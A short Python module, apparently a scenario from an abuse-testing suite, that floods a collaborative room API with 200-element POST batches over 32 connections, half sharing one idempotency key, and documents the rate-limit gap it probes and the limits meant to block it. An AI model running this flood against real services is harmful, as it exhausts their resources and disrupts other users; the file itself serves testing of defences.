"""Elements over HTTP, as fast as they go.

Does: posts groups of 200 elements to the victim's room over 32 connections, half of them under the same idempotency
    key.
Breaks: a rate that counts by connection does not count requests, which have no session; keys are kept for a day.
Limit: `user-commits-per-second`, where twenty elements count for one; `user-requests-per-second`; users take turns in
    a batch of 512 elements; `room-elements`; `in-flight-commits`.
"""

import json
import os

from lines import Line, request

PROOF = "status 201"

GROUP = 200


async def attack(target):
    await target.crowd(32, create)


async def create(target):
    async with await Line.open(target) as line:
        while target.is_on():
            elements = [{"type": "note", "id": os.urandom(6).hex()} for _ in range(GROUP)]
            key = "same" if target.counts["requests"] % 2 else os.urandom(8).hex()
            fields = f"Authorization: Bearer {target.token}", f"Idempotency-Key: {key}"
            body = json.dumps({"elements": elements}).encode()
            await line.send(request("POST", f"/api/rooms/{target.room}/elements", *fields, body=body))
            target.tally("requests")
            status, _ = await line.response(within=15)
            target.tally(f"status {status}")
